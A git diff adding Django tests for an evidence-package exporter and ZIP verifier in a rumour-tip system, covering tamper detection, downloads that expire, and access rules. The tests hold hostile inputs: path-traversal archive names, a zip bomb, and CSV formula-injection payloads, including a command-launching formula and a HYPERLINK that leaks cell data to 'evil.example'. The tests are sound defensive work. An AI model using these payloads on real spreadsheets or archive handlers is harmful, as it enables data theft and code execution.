@@ -52,7 +52,12 @@ def case(db):
 
 
 def export(client, rumor, **data):
-    return client.post(reverse("admin:tips_rumor_evidence", args=[rumor.pk]), data)
+    """Export as staff do: the form's POST, its confirmation page, then the download button's response."""
+    response = client.post(reverse("admin:tips_rumor_evidence", args=[rumor.pk]), data)
+    if response.status_code != 302:
+        return response
+    assert client.get(response["Location"]).status_code == 200
+    return client.get(response["Location"] + "download/")
 
 
 def saved(response, tmp_path, name="package.zip"):
@@ -279,3 +284,270 @@ def test_sightings_from_online_inspection_are_in_the_package_with_their_screensh
         stored = package.read(row["screenshot_file"])
     assert hashlib.sha256(stored).hexdigest() == row["screenshot_sha256"]
     call_command("verify_evidence_package", str(path))
+
+
+# --- the verifier refuses what a package of ours never is (issue 22) ----------------------------------
+
+
+def exit_status(path):
+    """The command's exit status as a shell sees it."""
+    from tips.management.commands.verify_evidence_package import Command
+
+    try:
+        Command().run_from_argv(["manage.py", "verify_evidence_package", str(path)])
+    except SystemExit as stop:
+        return stop.code
+    return 0
+
+
+def members(path):
+    with zipfile.ZipFile(path) as package:
+        return [(item, package.read(item.filename)) for item in package.infolist()]
+
+
+def rebuilt(path, entries, name="rebuilt.zip"):
+    """A ZIP holding ``entries`` [(name or ZipInfo, bytes)] in that order, as a forger would write it."""
+    target = path.with_name(name)
+    with zipfile.ZipFile(target, "w", compression=zipfile.ZIP_DEFLATED) as package:
+        for item, content in entries:
+            package.writestr(item, content)
+    return target
+
+
+@pytest.fixture
+def package(client, case, tmp_path):
+    client.force_login(staff_with("export_evidence"))
+    return saved(export(client, case["rumor"], reference="R-22"), tmp_path)
+
+
+def test_a_genuine_package_exits_0(package, capsys):
+    assert exit_status(package) == 0
+    assert "OK" in capsys.readouterr().out
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+def test_a_tampered_member_before_the_genuine_one_of_the_same_name_is_refused(package, capsys):
+    entries = members(package)
+    genuine = {item.filename: content for item, content in entries}["reports.csv"]
+    forged = genuine.replace("停水三天".encode(), "停电三天".encode())
+    path = rebuilt(package, [("reports.csv", forged), *((item.filename, content) for item, content in entries)])
+    with pytest.raises(CommandError) as failure:
+        call_command("verify_evidence_package", str(path))
+    assert "reports.csv: in the ZIP twice" in str(failure.value)
+    assert exit_status(path) == 1
+
+
+@pytest.mark.filterwarnings("ignore:Duplicate name")
+def test_a_second_manifest_is_refused(package):
+    entries = [(item.filename, content) for item, content in members(package)]
+    manifest = dict(entries)["manifest.json"]
+    path = rebuilt(package, [*entries, ("manifest.json", manifest)])
+    with pytest.raises(CommandError) as failure:
+        call_command("verify_evidence_package", str(path))
+    assert "manifest.json: in the ZIP twice" in str(failure.value)
+
+
+def test_names_equal_but_for_case_are_refused(package):
+    entries = [(item.filename, content) for item, content in members(package)]
+    path = rebuilt(package, [*entries, ("Reports.CSV", b"x")])
+    with pytest.raises(CommandError) as failure:
+        call_command("verify_evidence_package", str(path))
+    assert "ignoring case" in str(failure.value)
+
+
+@pytest.mark.parametrize("name", ["../outside.txt", "/etc/cron.d/x", "screenshots/../../x", "C:/x", "a\\b", "./x"])
+def test_unsafe_names_are_refused(package, name):
+    entries = [(item.filename, content) for item, content in members(package)]
+    path = rebuilt(package, [*entries, (name, b"x")])
+    with pytest.raises(CommandError) as failure:
+        call_command("verify_evidence_package", str(path))
+    assert "FAILED" in str(failure.value)
+    assert repr(name) in str(failure.value)
+
+
+def test_a_directory_entry_holding_data_is_refused(package):
+    entries = [(item.filename, content) for item, content in members(package)]
+    path = rebuilt(package, [*entries, (zipfile.ZipInfo("screenshots/"), b"hidden words")])
+    with pytest.raises(CommandError) as failure:
+        call_command("verify_evidence_package", str(path))
+    assert "screenshots/: a directory entry holding data (12 bytes)" in str(failure.value)
+
+
+def test_an_empty_directory_entry_is_tolerated(package, capsys):
+    entries = [(item.filename, content) for item, content in members(package)]
+    path = rebuilt(package, [(zipfile.ZipInfo("screenshots/"), b""), *entries])
+    assert exit_status(path) == 0
+
+
+def test_a_member_larger_than_the_manifest_declares_is_refused_unread(package):
+    entries = [(item.filename, content) for item, content in members(package)]
+    grown = [(name, content + b"x" * 5000 if name == "reports.csv" else content) for name, content in entries]
+    path = rebuilt(package, grown)
+    with pytest.raises(CommandError) as failure:
+        call_command("verify_evidence_package", str(path))
+    assert "reports.csv: larger than the" in str(failure.value)
+
+
+def test_a_manifest_that_inflates_to_64_mb_is_refused_within_a_bounded_read(package):
+    import tracemalloc
+
+    bomb = package.with_name("bomb.zip")
+    with (
+        zipfile.ZipFile(bomb, "w", compression=zipfile.ZIP_DEFLATED) as target,
+        target.open("manifest.json", "w") as member,
+    ):
+        member.write(b'{"format": "piyao-evidence/2", "files": [], "package_id": "')
+        zeros = b"0" * (1024 * 1024)
+        for _ in range(64):
+            member.write(zeros)
+        member.write(b'"}')
+    assert bomb.stat().st_size < 1024 * 1024
+    tracemalloc.start()
+    with pytest.raises(CommandError) as failure:
+        call_command("verify_evidence_package", str(bomb))
+    _current, peak = tracemalloc.get_traced_memory()
+    tracemalloc.stop()
+    assert "manifest.json is larger than" in str(failure.value)
+    assert peak < 40 * 1024 * 1024  # the bound (16 MB) and a chunk, never the 64 MB
+
+
+def test_a_package_rebuilt_whole_under_a_new_id_is_unverifiable_not_ok(package):
+    """Files, custody and hashes rewritten together under a new random package_id: consistent, unknown here."""
+    import uuid
+
+    entries = {item.filename: content for item, content in members(package)}
+    entries["reports.csv"] = entries["reports.csv"].replace("停水三天".encode(), "停电三天".encode())
+    manifest = json.loads(entries.pop("manifest.json"))
+    manifest["package_id"] = str(uuid.uuid4())
+    for entry in manifest["files"]:
+        entry["sha256"] = hashlib.sha256(entries[entry["path"]]).hexdigest()
+        entry["size"] = len(entries[entry["path"]])
+    path = rebuilt(package, [*entries.items(), ("manifest.json", json.dumps(manifest).encode())])
+    with pytest.raises(CommandError) as failure:
+        call_command("verify_evidence_package", str(path))
+    assert "UNVERIFIABLE" in str(failure.value)
+    assert "no record of exporting it" in str(failure.value)
+    assert failure.value.returncode == 3
+    assert exit_status(path) == 3
+
+
+# --- the printable summary and the exact texts ------------------------------------------------------
+
+
+def test_the_package_has_a_printable_summary_in_the_exporters_language(client, case, tmp_path):
+    client.force_login(staff_with("export_evidence"))
+    english = "/en" + reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk])
+    response = client.post(english, {"reference": "沪公网安〔2026〕123号"})
+    assert response.status_code == 302
+    path = saved(client.get(response["Location"] + "download/"), tmp_path)
+    with zipfile.ZipFile(path) as package:
+        summary = package.read("summary.html").decode()
+        manifest = json.loads(package.read("manifest.json"))
+        custody = json.loads(package.read("custody.json"))
+    assert "summary.html" in {entry["path"] for entry in manifest["files"]}
+    assert "summary.html" in custody["files"]
+    assert '<html lang="en">' in summary
+    assert "Evidence package for referral" in summary
+    assert "沪公网安〔2026〕123号" in summary and "全市停水三天" in summary
+    for reference in (case["first"].code, case["second"].code):
+        assert reference in summary
+    assert "WeChat group" in summary and "Weibo" in summary  # platforms as people read them
+    assert "紧急通知！明天起全市停水三天" in summary  # the text's excerpt
+    for entry in manifest["files"]:
+        if entry["path"] not in ("summary.html", "custody.json"):
+            assert entry["sha256"] in summary, entry["path"]
+    assert "reports.json holds every report's text exactly as it was received" in summary
+    assert "referrer" in summary  # the custody record: who exported
+    # Self-contained: nothing loaded from anywhere, no script.
+    for loaded in ("src=", "href=", "url(", "@import", "<script", "<link"):
+        assert loaded not in summary, loaded
+    assert "@page { size: A4" in summary
+
+
+def test_the_summary_is_in_chinese_for_a_chinese_exporter(package):
+    with zipfile.ZipFile(package) as opened:
+        summary = opened.read("summary.html").decode()
+    assert '<html lang="zh-hans">' in summary
+    from django.utils import translation
+
+    with translation.override("zh-hans"):
+        assert translation.gettext("Evidence package for referral") in summary
+        assert translation.gettext("Exact texts") in summary
+
+
+def test_formulas_are_neutralised_in_the_csv_and_exact_in_the_json(client, case, tmp_path):
+    TipFactory(rumor=case["rumor"], text="=cmd|' /C calc'!A0", platform="weibo")
+    TipFactory(rumor=case["rumor"], text='=HYPERLINK("http://evil.example/?leak="&A1,"看")', link="")
+    client.force_login(staff_with("export_evidence"))
+    path = saved(export(client, case["rumor"]), tmp_path)
+    texts = [row["text"] for row in reports_csv(path)]
+    assert "'=cmd|' /C calc'!A0" in texts
+    assert '\'=HYPERLINK("http://evil.example/?leak="&A1,"看")' in texts
+    assert not [text for text in texts if text.startswith(("=", "+", "-", "@"))]
+    with zipfile.ZipFile(path) as package:
+        exact = json.loads(package.read("reports.json"))
+    assert {"=cmd|' /C calc'!A0", '=HYPERLINK("http://evil.example/?leak="&A1,"看")'} <= {row["text"] for row in exact}
+    assert [row["reference"] for row in exact] == [row["reference"] for row in reports_csv(path)]
+
+
+# --- the confirmation page and the kept download ------------------------------------------------------
+
+
+def test_the_export_leads_to_a_confirmation_page_with_the_hashes_and_a_download(client, case):
+    client.force_login(staff_with("export_evidence"))
+    response = client.post(reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk]), {"reference": "CASE-9"})
+    record = EvidenceExport.objects.get()
+    assert response.status_code == 302
+    assert response["Location"] == reverse("admin:tips_rumor_evidence_done", args=[case["rumor"].pk, record.package_id])
+    page = client.get(response["Location"])
+    text = page.content.decode()
+    assert page.status_code == 200
+    assert "CASE-9" in text and "referrer" in text
+    assert record.manifest_sha256 in text
+    for sha256 in record.files.values():
+        assert sha256 in text
+    assert reverse("admin:tips_rumor_evidence_download", args=[case["rumor"].pk, record.package_id]) in text
+    # Reloading the confirmation exports nothing again.
+    client.get(response["Location"])
+    assert EvidenceExport.objects.count() == 1
+
+
+def test_the_download_expires_and_the_daily_purge_removes_the_kept_package(client, case, time_machine):
+    from datetime import timedelta
+
+    from django.utils import timezone
+
+    user = staff_with("export_evidence")
+    client.force_login(user)
+    response = client.post(reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk]), {})
+    done = "/en" + response["Location"]  # the English admin, so that the messages read as below
+    download = done + "download/"
+    assert client.get(download).status_code == 200
+    assert private_storage().listdir("evidence")[1]
+    time_machine.move_to(timezone.now() + timedelta(hours=25))
+    client.force_login(user)  # the staff session itself lasts 8 hours
+    expired = client.get(download, follow=True)
+    assert expired.redirect_chain[-1][0] == done
+    assert "The download has expired" in expired.content.decode()
+    call_command("purge_tip_personal_data", stdout=io.StringIO())
+    assert private_storage().listdir("evidence")[1] == []
+    assert EvidenceExport.objects.count() == 1  # the record stays
+
+
+def test_only_the_exporter_downloads_and_contact_details_need_their_permission(client, case):
+    exporter = staff_with("export_evidence", "view_tip_contact")
+    client.force_login(exporter)
+    response = client.post(reverse("admin:tips_rumor_evidence", args=[case["rumor"].pk]), {"include_contact": "on"})
+    download = "/en" + response["Location"] + "download/"
+    colleague = staff_with("export_evidence", "view_tip_contact", username="colleague")
+    client.force_login(colleague)
+    refused = client.get(download, follow=True)
+    assert "Only the person who exported a package may download it" in refused.content.decode()
+    assert refused["Content-Type"].startswith("text/html")
+    exporter.user_permissions.remove(Permission.objects.get(codename="view_tip_contact"))
+    client.force_login(exporter)
+    refused = client.get(download, follow=True)
+    assert "This package holds contact details, which you may not see." in refused.content.decode()
+    client.force_login(staff_with("view_tip_contact", username="triager"))
+    assert client.get(download).status_code == 403
+    assert client.get(response["Location"]).status_code == 403
